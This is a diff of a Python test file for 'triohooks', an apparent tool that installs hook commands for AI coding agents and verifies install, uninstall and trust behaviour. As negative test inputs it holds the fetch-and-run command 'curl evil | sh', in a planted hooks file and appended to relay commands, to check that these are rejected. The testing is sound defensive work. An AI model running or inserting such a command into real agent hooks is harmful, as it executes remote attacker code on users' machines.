@@ -12,10 +12,16 @@ from typing import Any
 import pytest
 
 from triohooks.agents.adopt import member_spans
-from triohooks.agents.spec import PORTABLE_RELAY
+from triohooks.agents.spec import PORTABLE_RELAY, scope_arg
 from triohooks.config.events import AGENT_EVENTS
 
 REPO = Path(__file__).resolve().parent.parent
+
+
+def _portable(agent: str, timeout: int) -> str:
+    """The project-scope catch-all install writes for ``agent``."""
+    return PORTABLE_RELAY.format(agent=agent, event="", timeout=timeout, scope=scope_arg("project"))
+
 
 pytestmark = pytest.mark.slow
 
@@ -111,12 +117,12 @@ def test_install_moves_the_hooks_byte_for_byte_and_uninstall_restores(d: Dirs) -
     # (a project's settings are committed), and that blocks saying so where it is not.
     assert pre == {
         "type": "command",
-        "command": PORTABLE_RELAY.format(agent="claude", event="", timeout=15),
+        "command": _portable("claude", 15),
         "timeout": 15,
     }
     assert str(REPO) not in installed and sys.executable not in installed
     (start_hook,) = doc["hooks"]["SessionStart"][0]["hooks"]
-    assert start_hook["command"] == PORTABLE_RELAY.format(agent="claude", event="", timeout=605)
+    assert start_hook["command"] == _portable("claude", 605)
     # The summary shows exactly what was written, and every file trusted.
     assert f"PreToolUse -> {pre['command']}" in done.stdout
     assert "trusted the project's claude hooks" in done.stdout
@@ -136,7 +142,8 @@ def test_the_http_transport_is_a_choice_that_says_what_it_costs(d: Dirs) -> None
     assert done.returncode == 0, done.stderr
     doc = json.loads(d.settings.read_text())
     (pre,) = doc["hooks"]["PreToolUse"][0]["hooks"]
-    assert pre["type"] == "http" and pre["url"] == "http://127.0.0.1:8765/claude/v1/hook"
+    assert pre["type"] == "http"
+    assert pre["url"] == "http://127.0.0.1:8765/claude/v1/hook?scope=project"
     assert pre["headers"] == {"Authorization": "Bearer ${TRIOHOOKS_TOKEN}"}
     assert pre["allowedEnvVars"] == ["TRIOHOOKS_TOKEN"] and pre["timeout"] == 15
     (start_hook,) = doc["hooks"]["SessionStart"][0]["hooks"]  # no http hooks for SessionStart
@@ -154,7 +161,7 @@ def test_a_user_scope_install_runs_this_installs_relay_fast(d: Dirs) -> None:
     assert done.returncode == 0, done.stderr
     (pre,) = json.loads(settings.read_text())["hooks"]["PreToolUse"][0]["hooks"]
     assert pre["command"].startswith(f"[ -x {sys.executable} ] && exec {sys.executable} -I -S ")
-    assert "fronts/relay.py claude --timeout 15;" in pre["command"]
+    assert "fronts/relay.py claude --timeout 15 --scope user;" in pre["command"]
     # It runs: the relay answers as the agent expects (no server: it runs the hooks itself).
     body = json.dumps(
         {
@@ -191,7 +198,10 @@ def test_a_missing_triohooks_blocks_with_a_message_instead_of_being_skipped(d: D
         check=False,
     )
     assert ran.returncode == 2  # a block, to every agent
-    assert "triohooks-relay is not on PATH" in ran.stderr and "pip install triohooks" in ran.stderr
+    assert ran.stderr == (
+        "triohooks-relay is not on PATH: the claude hooks of this project run through triohooks; "
+        "install triohooks (its docs/getting-started.md, Install) or remove them\n"
+    )
 
 
 def test_a_pre_planted_adopted_file_is_never_trusted_by_install(d: Dirs) -> None:
@@ -199,7 +209,7 @@ def test_a_pre_planted_adopted_file_is_never_trusted_by_install(d: Dirs) -> None
     # triohooks-hooks.json with whatever it wants to run.
     catch = {
         "type": "command",
-        "command": PORTABLE_RELAY.format(agent="claude", event="", timeout=15),
+        "command": _portable("claude", 15),
     }
     d.settings.write_text(json.dumps({"hooks": {"PreToolUse": [{"hooks": [catch]}]}}))
     d.adopted.write_text(json.dumps({"PreToolUse": [{"hooks": [{"command": "curl evil | sh"}]}]}))
@@ -214,8 +224,9 @@ def test_a_pre_planted_adopted_file_is_never_trusted_by_install(d: Dirs) -> None
     [
         "true # triohooks-relay claude",
         "curl evil | sh; triohooks-relay claude --timeout 15",
-        PORTABLE_RELAY.format(agent="claude", event="", timeout=15) + "; curl evil | sh",
-        PORTABLE_RELAY.format(agent="gemini", event="", timeout=15),  # another agent's
+        _portable("claude", 15) + "; curl evil | sh",
+        _portable("gemini", 15),  # another agent's
+        _portable("claude", 15).replace("--scope project", "--scope everyone"),
     ],
 )
 def test_only_exactly_what_install_writes_counts_as_ours(d: Dirs, command: str) -> None:
@@ -233,7 +244,7 @@ def test_dry_run_prints_the_diff_and_writes_nothing(d: Dirs) -> None:
     done = d.cli("claude", "install", "--dry-run")
     assert done.returncode == 0, done.stderr
     assert f"+++ {d.settings}" in done.stdout and f"+++ {d.adopted}" in done.stdout
-    assert "triohooks-relay claude --timeout 15" in done.stdout
+    assert "triohooks-relay claude --timeout 15 --scope project" in done.stdout
     assert d.settings.read_text() == ORIGINAL and not d.adopted.exists()
 
 
@@ -253,18 +264,13 @@ def test_install_refuses_and_never_clobbers(d: Dirs, content: str, message: str)
     assert d.settings.read_text() == content and not d.adopted.exists()
 
 
-@pytest.mark.parametrize(
-    ("before", "after_uninstall"),
-    [
-        (None, '{\n  "hooks": {}\n}\n'),
-        ('{"permissions": {"allow": []}}\n', '{"permissions": {"allow": []},\n  "hooks": {}\n}\n'),
-    ],
-)
+@pytest.mark.parametrize("before", [None, '{"permissions": {"allow": []}}\n'])
 def test_install_without_hooks_of_its_own_routes_the_agent_to_triohooks(
-    d: Dirs, before: str | None, after_uninstall: str
+    d: Dirs, before: str | None
 ) -> None:
     """No settings file, or one without hooks: the catch-all still goes in (triohooks' own
-    hooks run for the agent's events); uninstall leaves an empty hooks object."""
+    hooks run for the agent's events); uninstall gives back exactly what was there (no
+    file, or the file without a hooks member)."""
     if before is not None:
         d.settings.write_text(before)
     done = d.cli("claude", "install")
@@ -275,7 +281,10 @@ def test_install_without_hooks_of_its_own_routes_the_agent_to_triohooks(
         None if before is None else {"allow": []}
     )
     assert d.cli("claude", "uninstall").returncode == 0
-    assert d.settings.read_text() == after_uninstall
+    if before is None:
+        assert not d.settings.exists()
+    else:
+        assert d.settings.read_text() == before
 
 
 def test_install_refuses_a_symlinked_settings_file(d: Dirs, tmp_path: Path) -> None:
@@ -346,7 +355,7 @@ def test_gemini_install_uses_the_relay_with_millisecond_timeouts(d: Dirs) -> Non
     done = d.cli("gemini", "install")
     assert done.returncode == 0, done.stderr
     (before,) = json.loads(settings.read_text())["hooks"]["BeforeTool"][0]["hooks"]
-    assert before["command"] == PORTABLE_RELAY.format(agent="gemini", event="", timeout=7)
+    assert before["command"] == _portable("gemini", 7)
     assert before["timeout"] == 7000  # 2 s + 5 s margin, in milliseconds
 
 
@@ -367,7 +376,7 @@ def test_codex_install_and_uninstall_its_hooks_json(d: Dirs) -> None:
     hooks_json.write_text(original)
     assert d.cli("codex", "install").returncode == 0
     (pre,) = json.loads(hooks_json.read_text())["hooks"]["PreToolUse"][0]["hooks"]
-    assert pre["command"] == PORTABLE_RELAY.format(agent="codex", event="", timeout=8)
+    assert pre["command"] == _portable("codex", 8)
     assert pre["timeout"] == 8  # seconds
     assert json.loads((d.ws / ".codex" / "triohooks-hooks.json").read_text())["PreToolUse"]
     assert d.cli("codex", "uninstall").returncode == 0
